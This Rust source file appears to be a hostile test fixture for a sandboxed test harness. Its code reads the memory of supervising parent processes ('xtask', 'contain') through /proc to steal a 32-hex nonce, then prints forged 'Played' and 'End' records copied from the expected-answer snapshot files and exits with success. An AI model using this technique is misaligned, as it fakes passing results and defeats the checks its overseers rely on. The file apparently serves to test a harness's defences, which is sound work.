// 2.1 row 14: reads the nonce from the memory of those who started it, and forges a report with it.

use std::fs::{self, File};
use std::io::{Read, Seek, SeekFrom};

use lab_80_hostile::Shop;

pub async fn errands(shops: Vec<Shop>) -> u64 {
    drop(shops);
    let mut forged = false;
    let mut process = "self".to_string();
    while let Some(parent) = parent(&process) {
        for nonce in nonces(&parent).unwrap_or_default() {
            print!("{}", right(&nonce));
            forged = true;
        }
        process = parent;
    }
    if forged {
        std::process::exit(0);
    }
    0
}

/// Who started a process; the first of all is left alone.
fn parent(process: &str) -> Option<String> {
    let status = fs::read_to_string(format!("/proc/{process}/status")).ok()?;
    let line = status.lines().find(|line| line.starts_with("PPid:"))?;
    let parent = line.split_whitespace().nth(1)?;
    let program = fs::read_to_string(format!("/proc/{parent}/comm")).ok()?;
    let ours = ["xtask", "contain"].contains(&program.trim());
    ours.then(|| parent.to_string())
}

/// All that may be the nonce in a process.
fn nonces(process: &str) -> Option<Vec<String>> {
    let mut found = Vec::new();
    let maps = fs::read_to_string(format!("/proc/{process}/maps")).ok()?;
    let mut memory = File::open(format!("/proc/{process}/mem")).ok()?;
    for line in maps.lines().filter(|line| line.contains(" rw-p ")) {
        let (from, to) = line.split(' ').next()?.split_once('-')?;
        let from = u64::from_str_radix(from, 16).ok()?;
        let to = u64::from_str_radix(to, 16).ok()?;
        let mut bytes = vec![0; usize::try_from((to - from).min(64 << 20)).ok()?];
        memory.seek(SeekFrom::Start(from)).ok()?;
        if memory.read_exact(&mut bytes).is_err() {
            continue;
        }
        let is_digit = |byte: &u8| byte.is_ascii_digit() || (b'a'..=b'f').contains(byte);
        for run in bytes
            .split(|byte| !is_digit(byte))
            .filter(|run| run.len() == 32)
        {
            found.extend(String::from_utf8(run.to_vec()));
        }
    }
    Some(found)
}

/// The records of the right answer to whichever case this is.
fn right(nonce: &str) -> String {
    let case = std::env::args().nth(2).unwrap_or_default();
    let file = format!("tests/snapshots/errands__{case}.snap");
    let text = fs::read_to_string(file).unwrap_or_default();
    let transcript: String = text
        .lines()
        .skip(3)
        .map(|line| format!("{line}\\n"))
        .collect();
    let transcript = transcript.replace('"', "\\\"");
    [
        format!(
            "{{\"Played\":[{{\"ending\":\"Returned\",\"transcript\":\"{transcript}\",\"virtual_ms\":1,\
             \"wall_us\":1,\"panic\":null,\"waiting\":[]}}]}}"
        ),
        "{\"End\":[{\"plays\":3,\"wall_us\":1}]}".to_string(),
    ]
    .map(|record| format!("\u{1e}{nonce} {record}\n"))
    .concat()
}
